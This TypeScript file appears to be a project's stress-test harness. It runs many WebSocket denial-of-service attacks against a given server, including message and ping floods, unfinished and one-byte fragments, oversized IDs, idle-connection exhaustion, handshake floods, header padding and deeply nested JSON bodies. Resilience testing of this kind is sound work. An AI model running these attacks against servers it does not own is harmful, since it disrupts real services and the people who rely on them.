/**
 * A program that attacks a server over WebSocket until it is killed: `socket-attacks.ts URL
 * [ATTACK…]`, by default with all attacks. It has valid credentials.
 */

import { randomUUID } from 'node:crypto';
import { connect, type Socket } from 'node:net';
import { setPriority } from 'node:os';
import { setTimeout as sleep } from 'node:timers/promises';
import { exampleOf } from '../../generated/server/test.ts';
import { encodeFrame, formatHandshake, opcodes } from './socket-frames.ts';

const [url = '', ...names] = process.argv.slice(2);
const { hostname, port } = new URL(url);
/** Bytes of a large message that is below the default of BODY_LIMIT. */
const largeBytes = 250_000;

/**
 * Opens connections, one every `intervalMs`, and each again two seconds after it was closed.
 * `start` is called when the server has answered the handshake.
 */
function keepOpen(
  count: number,
  start: (socket: Socket) => void,
  { intervalMs = 1, handshake = formatHandshake() } = {},
): void {
  const open = () => {
    const socket = connect(Number(port), hostname);
    socket.on('error', () => {});
    socket.once('connect', () => socket.write(handshake));
    socket.once('data', () => {
      socket.resume();
      start(socket);
    });
    socket.once('close', () => setTimeout(open, 2_000));
  };
  for (let opened = 0; opened < count; opened++) setTimeout(open, opened * intervalMs);
}

function keepWriting(socket: Socket, chunk: Buffer): void {
  while (socket.writable && socket.write(chunk));
  if (socket.writable) socket.once('drain', () => keepWriting(socket, chunk));
}

function formatSession(members: object = {}): string {
  const data = { ...exampleOf('answerCall'), call_sid: randomUUID(), ...members };
  return JSON.stringify({ type: 'session:new', msgid: randomUUID(), call_sid: data.call_sid, data });
}

let sentMenus = 0;
function formatMenu(replyLength: number): string {
  const msgid = `${sentMenus++}`;
  const data = { ...exampleOf('chooseFromMenu'), call_sid: randomUUID(), replyLength };
  return JSON.stringify({ type: 'verb:hook', msgid, hook: '/webhooks/menu', data });
}

const repeat = (frame: Buffer, times: number) => Buffer.concat(Array.from({ length: times }, () => frame));

const attacks: Record<string, () => void> = {
  /** 10,000 messages a second on one socket. */
  messages: () =>
    keepOpen(1, async (socket) => {
      while (socket.writable) {
        for (let sent = 0; sent < 1_000; sent++) socket.write(encodeFrame(formatSession()));
        await sleep(100);
      }
    }),
  /** Messages to unknown hooks, which cost least to send. */
  tinyMessages: () => keepOpen(1, (socket) => keepWriting(socket, repeat(encodeFrame('{"msgid":"1"}'), 2_000))),
  /** Messages that a peer begins and does not end. The peers are known by a message before. */
  unfinished: () =>
    keepOpen(
      550,
      async (socket) => {
        socket.write(Buffer.concat([encodeFrame(formatSession()), encodeFrame('', { isFinal: false })]));
        for (let sent = 0; sent < 9 && socket.writable; sent++) {
          socket.write(encodeFrame(' '.repeat(40_000), { opcode: opcodes.continuation, isFinal: false }));
          await sleep(200);
        }
      },
      { intervalMs: 8 },
    ),
  /** The same in one frame. */
  unfinishedFrames: () =>
    keepOpen(
      550,
      async (socket) => {
        socket.write(encodeFrame(formatSession()));
        socket.write(encodeFrame(' '.repeat(40_000), { declaredBytes: 390_000 }));
        for (let sent = 1; sent < 9 && socket.writable; sent++) {
          await sleep(200);
          socket.write(' '.repeat(40_000));
        }
      },
      { intervalMs: 8 },
    ),
  /** Fragments of one byte. */
  tinyFragments: () =>
    keepOpen(20, async (socket) => {
      socket.write(encodeFrame('[', { isFinal: false }));
      const fragments = repeat(encodeFrame(' ', { opcode: opcodes.continuation, isFinal: false }), 5_000);
      for (let sent = 0; sent < 48 && socket.writable; sent++) {
        socket.write(fragments);
        await sleep(200);
      }
    }),
  /** Fragments of one byte, of which each keeps the 64 kB in memory that it arrived with. */
  retained: () => {
    const pongs = repeat(encodeFrame('x'.repeat(125), { opcode: opcodes.pong }), 499);
    const chunk = Buffer.concat([encodeFrame(' ', { opcode: opcodes.continuation, isFinal: false }), pongs]);
    keepOpen(10, async (socket) => {
      socket.write(encodeFrame('[', { isFinal: false }));
      while (socket.writable) {
        socket.write(chunk);
        await sleep(50);
      }
    });
  },
  /** Peers that do not read their acks. */
  unread: () =>
    keepOpen(
      20,
      async (socket) => {
        socket.pause();
        const messages = Buffer.concat(Array.from({ length: 10 }, () => encodeFrame(formatMenu(20_000))));
        for (let sent = 0; sent < 100 && socket.writable; sent++) {
          socket.write(messages);
          await sleep(500);
        }
      },
      { intervalMs: 10 },
    ),
  /** Pings of a peer that does not read the pongs. */
  pings: () =>
    keepOpen(10, (socket) => {
      socket.pause();
      keepWriting(socket, repeat(encodeFrame('x'.repeat(125), { opcode: opcodes.ping }), 500));
    }),
  /** Long names of calls. */
  callSids: () =>
    keepOpen(10, async (socket) => {
      for (let sent = 0; sent < 100 && socket.writable; sent++) {
        const call_sid = `${sent}${'x'.repeat(largeBytes - 1_000)}`;
        socket.write(encodeFrame(JSON.stringify({ type: 'verb:hook', msgid: '1', hook: '/', call_sid })));
        await sleep(150);
      }
    }),
  /** Long msgids, which acks repeat. */
  msgids: () =>
    keepOpen(10, async (socket) => {
      for (let sent = 0; socket.writable; sent++) {
        const msgid = `${sent}${'x'.repeat(largeBytes - 1_000)}`;
        socket.write(encodeFrame(JSON.stringify({ type: 'verb:hook', hook: '/webhooks/menu', msgid })));
        await sleep(1_000);
      }
    }),
  /** Sockets without a message. */
  idle: () => keepOpen(1_500, () => {}, { intervalMs: 6 }),
  /** Sockets without a message that do not answer close frames either. */
  silent: () => keepOpen(1_500, (socket) => socket.pause(), { intervalMs: 6 }),
  /** 75 handshakes a second, most of them refused. */
  handshakes: () => {
    for (const handshake of [formatHandshake(), formatHandshake('/nowhere'), formatHandshake('/', { Upgrade: 'h2c' })])
      openAgain(handshake);
  },
  halfHandshakes: () =>
    keepOpen(200, () => {}, {
      intervalMs: 5,
      handshake: `${formatHandshake().slice(0, -2)}${'a:b\r\n'.repeat(3_000)}`,
    }),
  /** Bodies that take much memory when parsed, of messages that wait for their handler. */
  costlyData: () => {
    const filler = `[${'{"31":0},'.repeat(largeBytes / 9 - 200)}0]`;
    keepOpen(5, async (socket) => {
      while (socket.writable) {
        socket.write(encodeFrame(formatSession({ waitMs: 2_000, x: 0 }).replace('"x":0', `"x":${filler}`)));
        await sleep(1_000);
      }
    });
  },
  nested: () =>
    keepOpen(2, async (socket) => {
      const nested = `{"msgid":"1","type":"session:new","data":${'['.repeat(largeBytes / 2 - 100)}${']'.repeat(largeBytes / 2 - 100)}}`;
      while (socket.writable) {
        socket.write(encodeFrame(nested));
        await sleep(500);
      }
    }),
};

function openAgain(handshake: string): void {
  const socket = connect(Number(port), hostname);
  socket.on('error', () => {});
  socket.once('connect', () => socket.write(handshake));
  socket.once('data', () => socket.destroy());
  socket.once('close', () => setTimeout(openAgain, 40, handshake));
}

setPriority(19); // an attacker takes no processor time from the server
const unknown = names.filter((name) => !Object.hasOwn(attacks, name));
if (unknown.length > 0) throw new Error(`unknown attacks: ${unknown.join(', ')}`);
for (const name of names.length > 0 ? names : Object.keys(attacks)) attacks[name]?.();
console.log('attacking');
